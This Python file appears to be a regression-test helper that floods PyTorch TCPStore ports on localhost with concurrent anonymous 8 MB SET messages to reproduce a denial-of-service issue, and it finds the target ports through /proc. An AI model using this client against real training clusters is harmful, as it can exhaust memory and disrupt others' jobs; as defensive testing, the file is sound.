"""Issue 38 (3)'s outsider: a client that speaks torch's TCPStore protocol to a port and tries
to store 8 MB values there, as one did against the nccl receiver's old store; and the ports a
process listens on, to aim it at every one."""
from __future__ import annotations

import os
import socket
import struct
from concurrent.futures import ThreadPoolExecutor

NUM_VALUES, VALUE_BYTES = 12, 8 << 20  # the reproduction
CONNECT_TIMEOUT_S = 2.0
SEND_TIMEOUT_S = 10.0
STORE_MAGIC = 0x3C85F7CE  # TCPStore's validation number


def store_set(key: str, value: bytes) -> bytes:
    """What a TCPStore client sends to set `key`: VALIDATE + magic, then SET key value."""
    raw = ("/" + key).encode()  # the client prefixes every key with "/"
    return (struct.pack("<BI", 0, STORE_MAGIC) + struct.pack("<BQ", 1, len(raw)) + raw
            + struct.pack("<Q", len(value)) + value)


def attack(port: int, key: str) -> str:
    """One anonymous `set(key, 8 MB)` at 127.0.0.1:`port`: "sent" (every byte taken), "held"
    (neither taken nor refused by SEND_TIMEOUT_S), "cut off" (the peer closed or reset), or
    "no connection"."""
    try:
        sock = socket.create_connection(("127.0.0.1", port), timeout=CONNECT_TIMEOUT_S)
    except OSError:
        return "no connection"
    try:
        sock.settimeout(SEND_TIMEOUT_S)
        sock.sendall(store_set(key, os.urandom(VALUE_BYTES)))
        sock.shutdown(socket.SHUT_WR)
        while sock.recv(1 << 16):  # whatever it answers, until it closes
            pass
        return "sent"
    except socket.timeout:
        return "held"  # neither read nor closed
    except OSError:
        return "cut off"
    finally:
        sock.close()


def attack_all(ports) -> dict[int, set[str]]:
    """NUM_VALUES attacks on each port at once: port -> the outcomes seen."""
    jobs = [(port, f"pdkv/junk/{i}") for port in ports for i in range(NUM_VALUES)]
    with ThreadPoolExecutor(max_workers=len(jobs)) as pool:
        outcomes = list(pool.map(lambda job: attack(*job), jobs))
    result: dict[int, set[str]] = {}
    for (port, _), outcome in zip(jobs, outcomes):
        result.setdefault(port, set()).add(outcome)
    return result


def listening_ports(pid: int | str = "self") -> set[int]:
    """TCP ports process `pid` listens on (its descriptors against /proc/net/tcp*)."""
    inodes = set()
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if target.startswith("socket:["):
            inodes.add(target[8:-1])
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with open(table) as f:
            for line in list(f)[1:]:
                cols = line.split()
                if cols[3] == "0A" and cols[9] in inodes:  # LISTEN
                    ports.add(int(cols[1].rsplit(":", 1)[1], 16))
    return ports
